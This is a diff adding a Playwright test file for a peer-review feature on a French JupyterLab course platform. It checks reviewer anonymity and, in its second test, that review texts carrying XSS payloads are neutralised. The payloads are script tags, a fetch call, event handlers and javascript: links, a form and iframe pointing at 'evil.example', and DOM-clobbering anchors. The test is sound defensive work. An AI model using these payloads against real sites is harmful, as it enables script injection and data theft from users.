@@ -1,0 +1,161 @@
+"""Peer review in a real browser (Playwright driving Debian's Chromium): a reviewer's whole path,
+and review texts written to attack the author's page."""
+
+from __future__ import annotations
+
+import re
+
+import nbformat
+import pytest
+import requests
+from playwright.sync_api import expect, sync_playwright
+
+from decoder import protocol
+from decoder.peer.store import PeerStore
+from tests import lab
+from tests.pages import Pages, api_token, ask, give, give_what_is_owed
+from tests.test_browser import CHROMIUM_ARGS
+
+pytestmark = [pytest.mark.docker, pytest.mark.browser]
+
+PEER = "s1-algorithme-du-quotidien"
+
+
+@pytest.fixture
+def browser():
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
+        yield browser
+        browser.close()
+
+
+def new_page(browser):
+    page = browser.new_context(locale="fr-FR", viewport={"width": 1280, "height": 900}).new_page()
+    page.set_default_timeout(60_000)
+    return page
+
+
+def log_in(page, platform, learner) -> None:
+    page.goto(f"{platform.url}/hub/login")
+    page.fill("#username_input", learner.name)
+    page.fill("#password_input", learner.password)
+    page.click("#login_submit")
+    page.wait_for_url(re.compile(rf"/user/{learner.name}/lab"), timeout=180_000)
+
+
+def submit(platform, learner) -> int:
+    master = nbformat.read(platform.settings.masters_dir / PEER / f"{PEER}.ipynb", 4)
+    response = requests.post(
+        protocol.service_url(platform.settings.course_service_url)
+        + protocol.route("submit", assignment=PEER),
+        json=protocol.encode_files({f"{PEER}.ipynb": nbformat.writes(master).encode()}),
+        headers={"Authorization": f"token {api_token(learner)}"}, timeout=60)
+    assert response.status_code == 201, response.text
+    return response.json()["id"]
+
+
+def hold_the_review_of(platform, reviewer: Pages, submission: int) -> int:
+    """Ask for work until the hold is ``submission``'s, reviewing what comes before it (the
+    pool is the class's: older submissions may need reviews first)."""
+    store = PeerStore(lab.store(platform).engine)
+    for _ in range(20):
+        review = ask(reviewer, PEER)
+        if store.review(review)["submission_id"] == submission:
+            return review
+        assert give(reviewer, PEER, review, [2, 2, 2]).status_code == 200
+    raise AssertionError("never got the submission to review")
+
+
+def test_a_reviewer_runs_the_copy_in_jupyterlab_and_the_author_reads_the_review(platform,
+                                                                               browser):
+    author, reviewer = platform.signed_up("uma"), platform.signed_up("victor")
+    submission = submit(platform, author)
+    review = hold_the_review_of(platform, Pages(reviewer), submission)
+
+    page = new_page(browser)
+    log_in(page, platform, reviewer)
+    page.goto(f"{platform.url}/services/course/peer/{PEER}")
+    page.get_by_role("button", name="Recevoir une copie à évaluer").click()
+    expect(page).to_have_url(re.compile(rf"/peer/review/{review}$"))
+    expect(page.locator("body")).not_to_contain_text(author.name)
+
+    # the copy, in the reviewer's own JupyterLab, run in their own kernel
+    page.click("#open-copy")
+    page.wait_for_url(re.compile(rf"/lab/tree/evaluations/{PEER}/evaluation-{review}/"),
+                      timeout=180_000)
+    expect(page.locator(".jp-RenderedMarkdown").first).to_contain_text("Copie anonyme",
+                                                                      timeout=120_000)
+    expect(page.get_by_text("Python 3 (ipykernel) | Inactif")).to_be_visible(timeout=120_000)
+    page.get_by_role("menuitem", name="Exécution").click()
+    page.get_by_text("Exécuter toutes les cellules", exact=True).click()
+    output = page.locator(".jp-OutputArea-output").filter(has_text="Remplir la bouilloire")
+    expect(output.first).to_contain_text("1 - Remplir la bouilloire", timeout=120_000)
+
+    # back to the form: the rubric, a comment on a cell, the overall comment
+    page.goto(f"{platform.url}/services/course/peer/review/{review}")
+    for criterion in range(3):
+        page.locator(f"input[name='criterion-{criterion}'][value='2']").check()
+    page.locator("textarea[name='cell-1']").fill("La boucle qui numérote est bien trouvée.")
+    page.locator("textarea[name='comment']").fill(
+        "Algorithme clair et complet ; la condition sur l'eau est au bon endroit. Bravo !")
+    page.get_by_role("button", name="Envoyer").click()
+    expect(page.locator("#done")).to_contain_text("Évaluation envoyée")
+
+    # the author gives what they owe, then reads the review and the grades
+    give_what_is_owed(Pages(author), PEER, [2, 2, 2])
+    mine = new_page(browser)
+    log_in(mine, platform, author)
+    mine.goto(f"{platform.url}/services/course/peer/{PEER}/received")
+    expect(mine.locator("body")).to_contain_text("Algorithme clair et complet")
+    expect(mine.locator("body")).to_contain_text("La boucle qui numérote est bien trouvée.")
+    expect(mine.locator("#peer-grade")).to_contain_text("Note des pairs : 6 / 6")
+    expect(mine.locator("#week-grade")).to_contain_text("/ 100")
+    expect(mine.locator("body")).not_to_contain_text(reviewer.name)
+
+
+HOSTILE = {
+    "comment": "Super ! <script>window.__pwned = 1; fetch('https://evil.example/s')</script>\n\n"
+               "<svg onload=\"window.__pwned = 2\"></svg> <img src=x onerror=\"window.__pwned=3\">"
+               "\n\n[clique ici](javascript:window.__pwned=4) "
+               "<a href=\"javascript:window.__pwned=5\">ou là</a>\n\n"
+               "<form action=\"https://evil.example/f\"><input name=q value=vole></form>"
+               "<iframe src=\"https://evil.example/i\"></iframe>\n\n"
+               "![pixel](https://evil.example/pixel.png) <style>body{display:none}</style>",
+    "cells": {"0": "<a id=\"peer_service\" name=\"forms\" href=\"https://evil.example\">x</a>",
+              "1": "<div id=\"score\" onclick=\"window.__pwned=6\">clic</div>"},
+}
+
+
+def test_hostile_review_texts_run_nothing_and_reach_nowhere(platform, browser):
+    author, reviewer = platform.signed_up("wanda"), platform.signed_up("xavier")
+    submission = submit(platform, author)
+    review = hold_the_review_of(platform, Pages(reviewer), submission)
+    sent = give(Pages(reviewer), PEER, review, [1, 1, 1], HOSTILE["comment"], HOSTILE["cells"])
+    assert sent.status_code == 200
+    give_what_is_owed(Pages(author), PEER, [2, 2, 2])
+
+    page = new_page(browser)
+    log_in(page, platform, author)
+    dialogs, requests_made = [], []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.on("request", lambda request: requests_made.append(request.url))
+    response = page.goto(f"{platform.url}/services/course/peer/{PEER}/received")
+    assert "script-src" not in response.headers["content-security-policy"] and \
+        "default-src 'none'" in response.headers["content-security-policy"]
+    expect(page.locator("body")).to_contain_text("Super !")
+    for link in page.locator("a").all():  # follow every link a learner could click
+        href = link.get_attribute("href") or ""
+        assert not href.lower().startswith(("javascript:", "data:")), href
+    page.locator("text=clic").first.click()
+    page.wait_for_timeout(500)
+    assert page.evaluate("() => window.__pwned") is None
+    assert page.evaluate("() => document.getElementById('peer_service')") is None
+    # only the rating forms, one per review; nothing active, nothing of the attacker's
+    assert page.evaluate("() => document.forms.length") == page.locator("section.review").count()
+    assert page.evaluate("() => document.querySelectorAll('script, iframe, img, svg, input[name=q]"
+                         ", [onerror], [onload], [onclick]').length") == 0
+    assert page.evaluate("() => document.querySelectorAll('style').length") == 1
+    assert dialogs == []
+    origin = platform.url
+    assert all(url.startswith(origin) for url in requests_made), requests_made
+    assert not any("evil.example" in url for url in requests_made)
